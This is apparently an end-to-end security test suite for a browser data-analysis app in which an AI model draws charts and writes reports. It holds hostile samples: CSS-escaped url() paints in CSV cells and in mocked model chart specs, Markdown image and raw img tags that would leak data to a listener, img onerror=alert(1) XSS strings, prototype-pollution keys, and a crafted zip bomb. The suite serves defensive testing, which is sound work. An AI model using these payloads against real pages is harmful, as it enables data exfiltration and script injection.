/**
 * Issue 27: nothing a cell or the model writes can paint a URL, in the page or in any file the
 * person saves, and files with hostile names or keys load. Run twice: on the build served with no
 * headers at all (the renderers and files must hold alone) and with its CSP. A loopback listener
 * records every request; it must stay empty.
 *
 * The paints: a CSV cell spelling `url(` with CSS escapes reaches a bar's `fill` through an
 * expression over the query's rows (`fill: {expr: "datum.paint"}`, which no spec check can see)
 * and through a colour scale turned off (`scale: null`, drawn, issue 46), and the model tries an
 * escaped `url(` in a mark and in the background.
 * In Chromium each of these forms is fetched from a fill (tests/unit/svg-attributes.test.ts).
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { downloaded, loadErrors, loadFiles, runSql, summaries } from './app.ts';
import { ask, mock, useConfiguredApp } from './agent.ts';
import { useBrowser } from './browser.ts';
import { declaringGroupBytes, zipDeclaring } from '../engine-suite/crafted.ts';
import { inertProblems, useListener } from './injection-helpers.ts';

const browser = useBrowser();
const listener = useListener();
let origin = '';
beforeAll(() => {
  origin = listener.origin;
});
const saved = mkdtempSync(join(tmpdir(), 'sift-saved-'));

/** The hostile CSV: a region, an amount, and a paint that is `url(…)` to CSS. */
const paintCsv = () =>
  [
    'region,amount,paint',
    `East,2,"\\75 rl(${origin}/cell-hex)"`,
    `North,3,"u\\rl(${origin}/cell-letter)"`,
    `South,5,"\\000055RL(${origin}/cell-six)"`,
    `West,4,"url(${origin}/cell-plain)"`,
  ].join('\n');

/** A file name a `String.replace` would read as patterns. */
const FILE_NAME = "paint$'$&.csv";

const bars = (extra: Record<string, unknown>) => ({
  encoding: {
    x: { field: 'region', type: 'nominal' },
    y: { field: 'amount', type: 'quantitative' },
  },
  ...extra,
});

/** The model's turn: the query, one chart it may draw and three it may not. */
function paintTurn() {
  const plot = (title: string, spec: Record<string, unknown>, queryId = true) => ({
    name: 'create_plot',
    input: { title, vega_lite_spec: spec, ...(queryId ? { query_id: 'Q1' } : {}) },
  });
  return [
    {
      name: 'sql_query',
      input: { query: 'SELECT region, amount, paint FROM data ORDER BY region', description: 'p' },
    },
    plot('Painted from the data', bars({ mark: { type: 'bar', fill: { expr: 'datum.paint' } } })),
    // `scale: null` takes each bar's colour from its cell as it is (the gallery's
    // bar_color_disabled_scale); Vega-Lite reads an identity scale on a nominal field as ordinal.
    plot(
      'Colours from the data',
      bars({
        mark: 'bar',
        encoding: { ...bars({}).encoding, color: { field: 'paint', type: 'nominal', scale: null } },
      }),
    ),
    plot(
      'Escaped fill',
      bars({
        data: { values: [{ region: 'a', amount: 1 }] },
        mark: { type: 'bar', fill: `u\\rl(${origin}/model-fill)` },
      }),
      false,
    ),
    plot('Escaped background', bars({ mark: 'bar', background: `\\75 rl(${origin}/model-bg)` })),
    { name: 'finalize', input: { session_title: null } },
  ];
}

/** Every attribute of the page's charts that still spells a URL or holds a backslash. */
function chartAttributes(page: Page): Promise<string[]> {
  return page.$$eval('[data-testid="plot"] svg, [data-testid="plot"] svg *', (els) =>
    els.flatMap((el) =>
      [...el.attributes]
        .filter((a) => /\\|rl\(\s*['"]?http/i.test(a.value))
        .map((a) => `${el.localName} ${a.name}=${a.value}`),
    ),
  );
}

/** `bytes` saved to disk and opened from there in a fresh browser context: what it requests. */
async function openedFromDisk(name: string, bytes: Buffer): Promise<string[]> {
  const path = join(saved, name);
  writeFileSync(path, bytes);
  const context = await browser().newContext();
  const requests: string[] = [];
  context.on('request', (r) => requests.push(r.url()));
  const viewer = await context.newPage();
  await viewer.goto(pathToFileURL(path).href, { waitUntil: 'load' });
  await viewer.waitForTimeout(300);
  await context.close();
  return requests.filter((url) => !url.startsWith('file:'));
}

describe.each([
  ['served with no CSP', true],
  ['served with its CSP', false],
])('%s', (_served, bare) => {
  /** One page for the four, each test from a new session: booting DuckDB is most of a test. */
  const open = useConfiguredApp(browser, { bare });

  it('a cell or the model painting a URL: nothing fetched in the page, the SVG, the report or its Markdown', async () => {
    const { page, errors } = await open();
    await loadFiles(page, [
      { name: FILE_NAME, mimeType: 'text/csv', buffer: Buffer.from(paintCsv()) },
    ]);
    await mock().script([{ reply: { tools: paintTurn() } }]);
    expect(await ask(page, 'Chart the amounts in their own colours.')).toBe('done');

    const turn = page.locator('.turn').last();
    const plots = turn.locator('[data-testid="plot"][data-rendered="true"]');
    await plots.nth(1).locator('svg').waitFor();
    // Colours from a column are ordinary Vega-Lite and are drawn, behind the same paint
    // sanitiser (issue 46); only the paints that no sanitiser can see are refused.
    expect(await turn.locator('[data-testid="plot"]').count()).toBe(2);
    const trail = (await turn.locator('[data-testid="activity"]').textContent()) ?? '';
    expect(trail).not.toMatch(/scale is null/);
    expect(trail).toMatch(/Chart rejected: mark\.fill contains a URL/);
    expect(trail).toMatch(/Chart rejected: background contains a URL/);
    // The four bars of each are drawn, grey: the cells' paints never stay on them.
    for (const plot of await plots.all()) {
      expect(await plot.locator('path[role="graphics-symbol"]').count()).toBe(4);
      expect(await plot.locator('path[role="graphics-symbol"][fill="gray"]').count()).toBe(4);
      for (const bar of await plot.locator('path[role="graphics-symbol"]').all())
        await bar.hover({ force: true });
      expect(await plot.locator('details.warnings li').allTextContents()).toContain(
        'A URL in the chart was removed: charts cannot load anything.',
      );
    }
    expect(await chartAttributes(page)).toEqual([]);

    // Each chart saved as SVG and opened from disk, where no CSP of ours applies.
    for (const [i, plot] of (await plots.all()).entries()) {
      const svg = await downloaded(page, plot.locator('[data-testid="plot-svg"]'));
      expect(svg.toString()).toMatch(/^<svg/);
      expect(svg.toString()).not.toMatch(/rl\(\s*['"]?http|\\/i);
      expect(svg.toString().match(/fill="gray"/g)).toHaveLength(4);
      expect(await openedFromDisk(`chart-${i}.svg`, svg)).toEqual([]);
    }

    // The report: the chart, and text that tries an image and raw HTML.
    await mock().reset();
    const text = [
      '# Paint',
      'East is lowest [Q1].',
      '[[C1]]',
      `![leak](${origin}/md-image?d=East) <img src="${origin}/md-raw">`,
      '```',
    ].join('\n\n');
    await mock().script([{ reply: { text } }]);
    await page.click('[data-testid="generate-report"]');
    await page.waitForSelector('[data-testid="report"][data-state="done"]', { timeout: 60_000 });

    const html = await downloaded(page, page.locator('[data-testid="export-report-html"]'));
    const markup = html.toString();
    // The cells' paints are in the appendix as the query's rows, escaped text in table cells,
    // where nothing loads (openedFromDisk below proves it); nowhere else may a URL be spelled.
    const cells = markup.match(/<td>[^<]*<\/td>/g) ?? [];
    expect(cells.some((c) => /rl\(/.test(c))).toBe(true);
    expect(markup.replace(/<td>[^<]*<\/td>/g, '')).not.toMatch(/rl\(\s*['"]?http|\\75|u\\rl/i);
    expect(markup).toContain("base-uri 'none'; form-action 'none'");
    // The file name is shown as it is, and the report is not garbled around it.
    expect(markup).toContain(
      `Data: ${FILE_NAME.replace('&', '&amp;')} (table data: 4 rows × 3 columns) · Made with Sift`,
    );
    expect(markup.match(/<h1>/g)).toHaveLength(1);
    expect(await openedFromDisk('report.html', html)).toEqual([]);

    const md = (
      await downloaded(page, page.locator('[data-testid="export-report-md"]'))
    ).toString();
    expect(md).toContain(`\\[image: leak\\] (${origin}/md-image?d=East)`);
    expect(md).toContain(`&lt;img src="${origin}/md-raw">`);
    expect(md).not.toMatch(/!\[|<img/);
    // The text's unclosed fence is text, so the fences after it are the report's own, in pairs.
    expect(md).toContain('\\`\\`\\`');
    const fences = md.match(/^```.*$/gm) ?? [];
    expect(fences.filter((f) => f === '```')).toHaveLength(fences.length / 2);
    expect(md).toContain(`_Data: ${FILE_NAME} (table data: 4 rows × 3 columns)`);
    // A previewer that draws `vega-lite` fences has no sanitiser of ours: a chart whose rows an
    // expression could paint with is left out of the file, said where it would be.
    expect(md).not.toMatch(/```vega-lite/);
    expect(md).toMatch(/_Its spec is left out: data\.values\[\d\]\.paint reads as a CSS url/);
    expect(md).toMatch(/_Its spec is left out: encoding\.color\.scale is null/);

    await page.waitForTimeout(300);
    expect(listener.requests).toEqual([]);
    expect(await inertProblems(page, origin)).toEqual([]);
    expect(errors).toEqual([]);
  });

  it('markup in a title line, a header, an amount that does not fit and a closing total shows as text', async () => {
    const { page, errors } = await open();
    const img = (what: string) => `<img src=${origin}/${what} onerror=alert(1)>`;
    const rows = Array.from({ length: 30 }, (_, i) => `r${i};${i + 1} 234,56 €;ok`);
    const csv = [
      `${img('title')};;`,
      `region;${img('header')};note`,
      ...rows,
      `r30;${img('misfit')};ok`,
      `;Total ${img('trailer')};`,
    ].join('\n');
    await loadFiles(page, [{ name: 'local.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) }]);
    const summary = page.locator('[data-testid="table-summary"]');
    // Each shows as the text it is: the title, the header as a column and its misfits' column.
    const shown = await summary.innerText();
    expect(shown).toContain(img('title'));
    expect(shown).toContain(img('trailer'));
    const row = page.locator(`[data-testid="conversions"] tr[data-column="${img('header')}"]`);
    expect(await row.innerText()).toContain(`${img('header')} (as written)`);
    expect(await summary.locator('img').count()).toBe(0);
    await page.waitForTimeout(300);
    expect(listener.requests).toEqual([]);
    expect(await inertProblems(page, origin)).toEqual([]);
    expect(errors).toEqual([]);
  });

  it('columns named __proto__ or constructor load from JSON, JSON Lines and a sheet', async () => {
    const { page, errors } = await open();
    // Written as text: in an object literal `__proto__` would set the prototype, not a key.
    const lines = ['{"id":1,"__proto__":"a","constructor":"x"}', '{"id":2,"__proto__":"b"}'];
    await loadFiles(page, [
      { name: 'doc.json', mimeType: 'application/json', buffer: Buffer.from(`[${lines}]`) },
      {
        name: 'lines.jsonl',
        mimeType: 'application/x-ndjson',
        buffer: Buffer.from(lines.join('\n')),
      },
      {
        name: 'sheet.xlsx',
        mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        buffer: readFileSync('tests/fixtures/xlsx/proto.xlsx'),
      },
    ]);
    expect(await loadErrors(page)).toEqual([]);
    expect((await summaries(page)).map((s) => [s.table, s.rows, s.cols])).toEqual([
      ['doc', 2, 3],
      ['lines', 2, 3],
      ['sheet', 2, 4],
    ]);
    const read = await runSql(
      page,
      'SELECT d."__proto__", d."constructor", l."__proto__", s."__proto__", s."toString" FROM doc d JOIN lines l USING (id) JOIN sheet s USING (id) ORDER BY id',
    );
    expect(read.ok && read.cells).toEqual([
      ['a', 'x', 'a', 'p1', 't1'],
      ['b', null, 'b', 'p2', 't2'],
    ]);
    expect(listener.requests).toEqual([]);
    expect(errors).toEqual([]);
  });

  it('a zip bomb and a Parquet row group past memory are refused with their reasons, the table kept', async () => {
    const { page, errors } = await open();
    const csv = Buffer.from('id,name\n1,Ana\n2,Bo\n');
    await loadFiles(page, [{ name: 'people.csv', mimeType: 'text/csv', buffer: csv }]);
    const bomb = zipDeclaring([
      { name: '[Content_Types].xml', packed: 40, declared: 200 },
      { name: 'xl/worksheets/sheet1.xml', packed: 100, declared: 3 * 2 ** 30 },
    ]);
    const tz = readFileSync('tests/fixtures/duckdb-parquet/tz.parquet');
    const huge = declaringGroupBytes(new Uint8Array(tz), 92, 2, 2 * 2 ** 30);
    const binary = 'application/octet-stream';
    await loadFiles(page, [
      { name: 'bomb.xlsx', mimeType: binary, buffer: Buffer.from(bomb) },
      { name: 'huge.parquet', mimeType: binary, buffer: Buffer.from(huge) },
    ]);
    const refused = await loadErrors(page);
    expect(refused.map((e) => e.file)).toEqual(['bomb.xlsx', 'huge.parquet']);
    expect(refused[0]!.text).toMatch(/claims to unpack from 100 bytes to 3,072 MB/);
    expect(refused[1]!.text).toMatch(/row group is 2,048 MB once unpacked/);
    expect((await summaries(page)).map((s) => [s.table, s.rows])).toEqual([['data', 2]]);
    const read = await runSql(page, 'SELECT name FROM data ORDER BY id');
    expect(read.ok && read.cells).toEqual([['Ana'], ['Bo']]);
    expect(listener.requests).toEqual([]);
    expect(errors).toEqual([]);
  });
});
